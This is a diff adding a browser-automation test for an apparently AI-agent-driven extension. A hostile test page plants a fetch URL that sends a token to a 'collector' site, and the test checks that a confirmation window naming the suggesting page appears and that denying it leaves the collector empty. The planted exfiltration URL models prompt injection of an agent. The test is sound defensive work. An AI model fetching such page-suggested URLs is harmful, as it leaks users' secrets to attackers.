@@ -23,10 +23,13 @@ from tests.browser.harness import (
     ServedSite,
     chromium,
     code,
+    confirm_page,
     keep_dialogs_open,
     mcp_client,
     ok,
+    press,
     served_pages,
+    shows,
     trust_this_process,
     widen,
 )
@@ -142,6 +145,33 @@ def test_page_fetch_get_and_post_of_a_planted_token_are_refused_under_strict(
         ("page_fetch", "provenance_refused"),
         ("page_fetch", "provenance_refused"),
     ]
+
+
+def test_a_page_suggested_page_fetch_asks_naming_the_request_before_the_fetch_window(
+    browser: ThrowawayBrowser, hostile: ServedSite, collector: ServedSite
+) -> None:
+    """Under the default policy (confirm) the provenance question comes first, naming the page
+    that suggested the request — not the generic page_fetch window; denied, nothing is sent."""
+    trust_this_process(browser, [hostile.origin, collector.origin])
+    widen(browser, pageFetch=True)
+    planted = f"{collector.origin}/collect?token={TOKEN}"
+
+    async def scenario() -> None:
+        async with chromium(browser) as context, mcp_client(browser) as agent:
+            await wait_for_extension(agent, asyncio.get_running_loop().time() + 60)
+            tab = (await ok(agent, "tab_open", {"url": f"{hostile.origin}/text"}))["tab"]["id"]
+            await ok(agent, "page_text", {"tabId": tab})
+            fetching = asyncio.create_task(
+                agent.call_tool("page_fetch", {"tabId": tab, "url": planted})
+            )
+            window = await confirm_page(context)
+            await shows(window, f"A page on {hostile.origin} suggested this request: {planted}")
+            await press(window, "#deny")
+            assert (tool_error(await fetching) or {}).get("code") == "confirm_denied"
+
+    asyncio.run(asyncio.wait_for(scenario(), GUARD))
+    assert _collected(collector) == []
+    assert _decisions(browser) == [("page_fetch", "confirm_denied")]
 
 
 @pytest.fixture
